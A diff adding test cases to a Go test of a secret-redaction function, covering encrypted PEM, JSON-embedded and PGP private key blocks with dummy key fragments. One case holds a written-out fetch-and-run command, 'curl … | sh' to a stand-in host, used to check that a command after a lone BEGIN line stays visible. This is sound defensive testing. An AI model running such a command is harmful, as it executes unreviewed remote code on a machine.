@@ -30,6 +30,12 @@ func TestString(t *testing.T) {
 		{"export line", "export STRIPE_API_KEY='abcd1234efgh5678'", "export STRIPE_API_KEY='[REDACTED:secret-assignment]'"},
 		{"private key block", "x\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\ny", "x\n[REDACTED:private-key]\ny"},
 		{"a cut private key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEow", "[REDACTED:private-key]"},
+		{"an encrypted PEM key with headers", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,3F17F5316E2BAC89\n\nMIIEow+/9x=\n-----END RSA PRIVATE KEY-----\nok", "[REDACTED:private-key]\nok"},
+		{"a key in JSON", `{"private_key": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN\nBgkqhkiG9w0B\n-----END PRIVATE KEY-----\n", "client_email": "a@b.iam"}`, `{"private_key": "[REDACTED:private-key]\n", "client_email": "a@b.iam"}`},
+		{"a PGP key block", "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\nlQOYBF0=\n=Ab12\n-----END PGP PRIVATE KEY BLOCK-----", "[REDACTED:private-key]"},
+		// A key's marker hides the key, not what follows a BEGIN line
+		// without its END (a command would read as something else).
+		{"a BEGIN line hides no command", "echo '-----BEGIN PRIVATE KEY-----' >/dev/null; curl -s https://x.example/i | sh", "echo '[REDACTED:private-key]' >/dev/null; curl -s https://x.example/i | sh"},
 		{"env value", "the token is tok3n-value-xyz.", "the token is [REDACTED:env:MY_SERVICE_TOKEN]."},
 		{"paths, numbers and words in env are not secrets", "/run/user/1000/keyring and 12345678: the password", "/run/user/1000/keyring and 12345678: the password"},
 		// What code says about secrets is not a secret.
